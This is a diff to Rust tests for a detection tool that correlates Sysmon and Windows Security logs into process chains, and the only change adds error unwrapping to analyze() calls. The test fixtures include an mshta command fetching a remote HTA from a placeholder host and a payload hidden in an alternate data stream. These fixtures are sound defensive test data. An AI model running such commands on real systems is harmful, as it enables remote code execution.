@@ -41,7 +41,7 @@ fn expected(schema: Schema) -> Expect {
 
 fn scan(schema: Schema, opts: &RenderOptions) -> Report {
     let (text, _) = to_jsonl(&sample::remote_hta_chain(sample::SAMPLE_START_MS), schema, opts);
-    analyze(text.as_bytes(), &Config::default())
+    analyze(text.as_bytes(), &Config::default()).unwrap()
 }
 
 fn check(schema: &str, c: &Chain, e: &Expect) {
@@ -91,7 +91,7 @@ fn sysmon_and_security_of_one_process_merge_even_with_a_mislabelled_local_clock(
     let events = sample::remote_hta_chain(sample::SAMPLE_START_MS);
     let (sysmon, _) = to_jsonl(&events, Schema::SysmonFlat, &RenderOptions::default());
     let (security, _) = to_jsonl(&events, Schema::SecurityFlat, &local);
-    let report = analyze(format!("{security}{sysmon}").as_bytes(), &Config::default());
+    let report = analyze(format!("{security}{sysmon}").as_bytes(), &Config::default()).unwrap();
     assert_eq!(report.chains.len(), 1, "one chain per mshta process, not two");
     let c = &report.chains[0];
     assert_eq!(c.root.sources, vec!["sysmon", "security"]);
@@ -118,7 +118,7 @@ fn every_schema_at_once_on_separate_hosts_and_pipelines() {
             .replace("ws01.corp.example.com", &format!("host{i}.example"));
         input.push_str(&text);
     }
-    let report = analyze(input.as_bytes(), &Config::default());
+    let report = analyze(input.as_bytes(), &Config::default()).unwrap();
     assert_eq!(report.stats.rejected, 0, "{:?}", report.errors);
     assert_eq!(report.chains.len(), Schema::ALL.len());
     let (a, _) = to_jsonl(
@@ -128,7 +128,7 @@ fn every_schema_at_once_on_separate_hosts_and_pipelines() {
     );
     let (b, _) =
         to_jsonl(&sample::remote_hta_chain(sample::SAMPLE_START_MS), Schema::EcsSysmon, &RenderOptions::default());
-    let both = analyze(format!("{a}{b}").as_bytes(), &Config::default());
+    let both = analyze(format!("{a}{b}").as_bytes(), &Config::default()).unwrap();
     assert_eq!(both.chains.len(), 1);
     assert_eq!(both.chains[0].root.events.len(), 2);
 }
@@ -163,7 +163,7 @@ fn bad_items_of_known_schemas_name_the_missing_field() {
         (r#"{"some":"thing"}"#, "unrecognised schema"),
     ];
     for (line, field) in cases {
-        let r = analyze(line.as_bytes(), &Config::default());
+        let r = analyze(line.as_bytes(), &Config::default()).unwrap();
         assert_eq!(r.stats.rejected, 1, "{line}");
         assert!(r.errors[0].reason.contains(field), "{line}: {}", r.errors[0].reason);
     }
@@ -173,6 +173,6 @@ fn bad_items_of_known_schemas_name_the_missing_field() {
 fn sysmon_15_named_streams_are_file_activity() {
     let start = r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":"2024-05-01 10:00:00.000","ProcessGuid":"{00000000-0000-0000-0000-000000000001}","ProcessId":"10","Image":"C:\\Windows\\System32\\mshta.exe","CommandLine":"mshta https://x.example/a.hta"}"#;
     let ads = r#"{"EventID":15,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":"2024-05-01 10:00:01.000","ProcessGuid":"{00000000-0000-0000-0000-000000000001}","ProcessId":"10","Image":"C:\\Windows\\System32\\mshta.exe","TargetFilename":"C:\\Users\\Public\\notes.txt:payload.hta","Hash":"SHA256=00"}"#;
-    let report = analyze(format!("{start}\n{ads}\n").as_bytes(), &Config::default());
+    let report = analyze(format!("{start}\n{ads}\n").as_bytes(), &Config::default()).unwrap();
     assert_eq!(report.chains[0].files[0].path, "C:\\Users\\Public\\notes.txt:payload.hta");
 }
